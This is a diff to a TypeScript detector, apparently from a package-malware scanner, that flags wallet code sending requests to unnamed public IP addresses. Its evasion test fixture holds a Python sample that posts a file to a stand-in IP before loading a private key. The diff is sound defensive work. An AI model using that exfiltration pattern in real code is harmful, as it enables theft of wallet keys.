@@ -17,6 +17,9 @@ const WORDS = [
 /** What only a private key or a seed phrase is given to. */
 const LOADS =
   /(?:\.from_key|\.from_secret_key|\.from_base58_string|\.from_mnemonic|\.from_private_key|SeedGenerator|privateKeyToAccount|mnemonic_to_seed|\.IsValid|\.to_seed)\(\s{0,4}([A-Za-z_]\w{0,80})\s{0,4}[,)]/g;
+/** A public address without a name: no service that deals with accounts has one. */
+const RAW_ADDRESS =
+  /https?:\/\/(?!127\.|0\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.)\d{1,3}(?:\.\d{1,3}){3}(?=[:/\s]|$)/;
 /** Names taken from a file, and how often a value is followed from name to name. */
 const MOST = 40;
 const STEPS = 3;
@@ -30,7 +33,8 @@ export const sendsSigningKey: Detector = {
   class: "threat",
   group: "exfiltration",
   why: `The same variable is given to a function that makes a wallet's account from a private key or seed phrase, and to a request. Whoever
-gets it owns the wallet. The name of the variable does not matter, nor what it is encoded in.
+gets it owns the wallet. The name of the variable does not matter, nor what it is encoded in. So does, in code that makes accounts, a request
+to an address without a name: no service for accounts has one.
 
 Libraries derive addresses and signatures and send those.`,
   literals: WORDS,
@@ -40,6 +44,17 @@ Libraries derive addresses and signatures and send those.`,
       const sent = deedsOf(file, "upload");
       const keys = sent.length === 0 ? new Set<string>() : keysOf(file);
       if (keys.size === 0) continue;
+      const raw = sent.find((deed) => RAW_ADDRESS.test(deed.text));
+      if (raw !== undefined)
+        yield sight(
+          file,
+          raw.offset,
+          `makes accounts of seed phrases and calls ${raw.what} with an address without a name`,
+          {
+            phase: raw.phase,
+            share: 0.97,
+          },
+        );
       for (const deed of sent) {
         const key = (deed.words.match(/(?<![\w.'"])[A-Za-z_]\w{0,80}(?![\w'"]|\s{0,2}[=(.])/g) ?? []).find((name) =>
           keys.has(name),
@@ -65,6 +80,15 @@ Libraries derive addresses and signatures and send those.`,
         files: {
           "demo/a.py":
             "import requests\nfrom eth_account import Account\ndef send(k, url, tx):\n    a = Account.from_key(k)\n    s = a.sign_transaction(tx)\n    body = {'id': a.address, 'tx': s}\n    requests.post(url, json=body)\n",
+        },
+      },
+    ],
+    evasions: [
+      {
+        ecosystem: "pypi",
+        files: {
+          "demo/a.py":
+            "import requests\nfrom eth_account import Account\nU = 'http:' '//198.51.100.7/v'\ndef check(k):\n    m = name(k)\n    requests.post(U, files={'f': open(m)})\n    return Account.from_key(k)\n",
         },
       },
     ],
